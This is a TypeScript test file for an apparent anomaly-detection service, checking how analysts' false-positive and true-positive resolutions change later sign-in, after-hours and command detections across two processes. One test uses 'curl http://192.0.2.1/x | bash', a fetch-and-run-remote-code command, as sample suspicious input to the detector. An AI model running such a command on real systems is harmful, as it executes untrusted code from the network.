import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { rows } from '../flow/harness.ts';
import { data } from '../harness/client.ts';
import type { Service } from '../harness/service.ts';
import { freshDatabase, startService, testClock } from '../harness/service.ts';
import type { Found } from './judging.ts';
import { judge } from './judging.ts';
import type { Actor } from './sample.ts';
import { after, command, days, failure, login, newCast } from './sample.ts';

/** What people say of anomalies is learned, whichever of two processes hears it. */

let database: Awaited<ReturnType<typeof freshDatabase>>;
let a: Service;
let b: Service;
beforeAll(async () => {
  database = await freshDatabase();
  const clock = testClock('2026-12-01T00:00:00Z');
  [a, b] = await Promise.all([startService({ databaseUrl: database.url, clock }), startService({ databaseUrl: database.url, clock })]);
});
afterAll(async () => {
  await a.close();
  await b.close();
  await database.drop();
});

const firstDay = '2026-10-01T10:00:00Z';
const sixthDay = after(firstDay, { days: 5 });
const newActor = (): Actor => {
  const cast = newCast();
  return { user: cast.user(), sourceIp: cast.address() };
};
const elsewhere = (actor: Actor): Actor => ({ ...actor, sourceIp: actor.sourceIp!.replace(/\d+$/, '99') });
const typesOf = (found: readonly Found[]) => found.map(({ type }) => type);

type Resolution = 'TRUE_POSITIVE' | 'FALSE_POSITIVE' | 'BENIGN';
const resolve = async (service: Service, what: 'Anomaly' | 'Alert', id: string, resolution: Resolution) => {
  const answer = await data(
    service,
    `mutation($id: ID!, $resolution: Resolution!) { resolve${what}(input: { id: $id, resolution: $resolution }) { userErrors { message } } }`,
    { id, resolution },
  );
  expect(answer[`resolve${what}`].userErrors).toEqual([]);
};

/** Five ordinary days, then a sign-in that raises one anomaly. */
async function raised(service: Service, actor: Actor, odd: Parameters<typeof judge>[1]): Promise<Found> {
  const found = await judge(service, [...days(5, actor, firstDay), ...odd]);
  expect(found).toHaveLength(1);
  return found[0]!;
}

describe('a new location', () => {
  it.each([
    ['FALSE_POSITIVE', []],
    ['TRUE_POSITIVE', ['NEW_LOCATION']],
    ['BENIGN', ['NEW_LOCATION']],
  ] as const)('marked %s: what the next sign-in from there raises, in both processes, is %j', async (resolution, types) => {
    const actor = newActor();
    const { id } = await raised(a, actor, [login(elsewhere(actor), sixthDay)]);
    await resolve(b, 'Anomaly', id, resolution);
    expect(typesOf(await judge(a, [login(elsewhere(actor), after(sixthDay, { days: 2 }))]))).toEqual(types);
    expect(typesOf(await judge(b, [login(elsewhere(actor), after(sixthDay, { days: 4 }))]))).toEqual(types);
    const third = { ...actor, sourceIp: actor.sourceIp!.replace(/\d+$/, '77') };
    expect(typesOf(await judge(b, [login(third, after(sixthDay, { days: 5 }))]))).toEqual(['NEW_LOCATION']);
  });

  it.each([
    ['FALSE_POSITIVE', []],
    ['TRUE_POSITIVE', ['NEW_LOCATION']],
  ] as const)('whose alert is resolved as %s: the next sign-in from there raises %j', async (resolution, types) => {
    const actor = newActor();
    const { alert } = await raised(b, actor, [login(elsewhere(actor), sixthDay)]);
    await resolve(a, 'Alert', alert!.id, resolution);
    for (const service of [b, a]) {
      expect(typesOf(await judge(service, [login(elsewhere(actor), after(sixthDay, { days: 2 }))]))).toEqual(types);
    }
  });

  it('marked FALSE_POSITIVE is known from ten minutes after it on, not before, in any order of arrival', async () => {
    for (const [minutes, types] of [
      [9, ['NEW_LOCATION']],
      [10, []],
    ] as const) {
      const actor = newActor();
      const { id } = await raised(a, actor, [login(elsewhere(actor), sixthDay)]);
      await resolve(a, 'Anomaly', id, 'FALSE_POSITIVE');
      expect(typesOf(await judge(a, [login(elsewhere(actor), after(sixthDay, { minutes }))]))).toEqual(types);
    }
  });

  it('marked FALSE_POSITIVE does not teach what somebody has found to be an attack', async () => {
    const actor = newActor();
    const night = after(sixthDay, { hours: -7 });
    const found = await judge(a, [...days(5, actor, firstDay), login(elsewhere(actor), night)]);
    const [time, place] = ['UNUSUAL_TIME', 'NEW_LOCATION'].map((type) => found.find((one) => one.type === type)!.id);
    await resolve(a, 'Anomaly', place!, 'TRUE_POSITIVE');
    await resolve(b, 'Anomaly', time!, 'FALSE_POSITIVE');
    expect(typesOf(await judge(b, [login(elsewhere(actor), after(night, { days: 2 }))])).toSorted()).toEqual([
      'NEW_LOCATION',
      'UNUSUAL_TIME',
    ]);
  });

  it('marked TRUE_POSITIVE takes back what was learned of it as a false positive of something else', async () => {
    const actor = newActor();
    const night = after(sixthDay, { hours: -7 });
    const found = await judge(a, [...days(5, actor, firstDay), login(elsewhere(actor), night)]);
    const [time, place] = ['UNUSUAL_TIME', 'NEW_LOCATION'].map((type) => found.find((one) => one.type === type)!.id);
    await resolve(a, 'Anomaly', time!, 'FALSE_POSITIVE');
    await resolve(b, 'Anomaly', place!, 'TRUE_POSITIVE');
    expect(typesOf(await judge(a, [login(elsewhere(actor), after(night, { days: 2 }))])).toSorted()).toEqual([
      'NEW_LOCATION',
      'UNUSUAL_TIME',
    ]);
  });
});

describe('an unusual time', () => {
  it.each([
    ['FALSE_POSITIVE', []],
    ['TRUE_POSITIVE', ['UNUSUAL_TIME']],
  ] as const)('marked %s: the next sign-in at that time raises %j', async (resolution, types) => {
    const actor = newActor();
    const night = after(sixthDay, { hours: -7 });
    const { id } = await raised(a, actor, [login(actor, night)]);
    await resolve(b, 'Anomaly', id, resolution);
    expect(typesOf(await judge(b, [login(actor, after(night, { days: 2 }))]))).toEqual(types);
    expect(typesOf(await judge(a, [login(actor, after(night, { days: 4, minutes: 120 }))]))).toEqual(types);
    expect(typesOf(await judge(a, [login(actor, after(night, { days: 6, hours: -3 }))]))).toEqual(['UNUSUAL_TIME']);
  });
});

describe('what an attempt that failed shows', () => {
  it('becomes usual for nobody: a burst that was a false positive does not make its address known', async () => {
    const actor = newActor();
    const burst = Array.from({ length: 5 }, (_, n) => failure(elsewhere(actor), after(sixthDay, { minutes: n })));
    const found = await judge(a, [...days(5, actor, firstDay), ...burst]);
    expect(typesOf(found)).toEqual(['FAILED_LOGIN_BURST']);
    await resolve(b, 'Anomaly', found[0]!.id, 'FALSE_POSITIVE');
    expect(typesOf(await judge(a, [login(elsewhere(actor), after(sixthDay, { days: 2 }))]))).toContain('NEW_LOCATION');
  });
});

describe('what others know', () => {
  it('grows by what a false positive teaches, as by any lesson', async () => {
    const actor = newActor();
    const odd = command(actor, sixthDay, 'curl http://192.0.2.1/x | bash');
    const { id } = await raised(a, actor, [odd]);
    await resolve(a, 'Anomaly', id, 'FALSE_POSITIVE');
    await resolve(b, 'Anomaly', (await raised(b, newActor(), [{ ...odd, user: newCast().user() }])).id, 'TRUE_POSITIVE');
    expect(await knownBy(database.url, 'program:curl')).toBe(1);
  });
});

describe('what others know of an attack', () => {
  it('is taken back when somebody finds that it was one: the habit of the user, and that others share it', async () => {
    const actor = newActor();
    const night = { ...actor, session: `${actor.user}-night` };
    const evening = command(night, after(sixthDay, { hours: 13 }), 'ncat-of-this-test --version');
    const found = await judge(a, [...days(5, actor, firstDay), login(night, sixthDay), evening]);
    await judge(a, [login(actor, after(sixthDay, { days: 1 }))]);
    expect(await knownBy(database.url, 'program:ncat-of-this-test')).toBe(1);
    await resolve(b, 'Anomaly', found.find(({ type }) => type === 'AFTER_HOURS')!.id, 'TRUE_POSITIVE');
    expect(await knownBy(database.url, 'program:ncat-of-this-test')).toBe(0);
    const [user] = await rows<{ facts: object }>(database.url, `select baseline->'facts' as facts from "user" where external_id = $1`, [
      actor.user,
    ]);
    expect(Object.keys(user!.facts)).toContain(`address:${actor.sourceIp}`);
    expect(Object.keys(user!.facts)).not.toContain('program:ncat-of-this-test');
  });
});

async function knownBy(databaseUrl: string, fact: string): Promise<number> {
  const [found] = await rows<{ users: number }>(databaseUrl, `select users from shared_fact where scope = 'organisation' and fact = $1`, [
    fact,
  ]);
  return found?.users ?? 0;
}
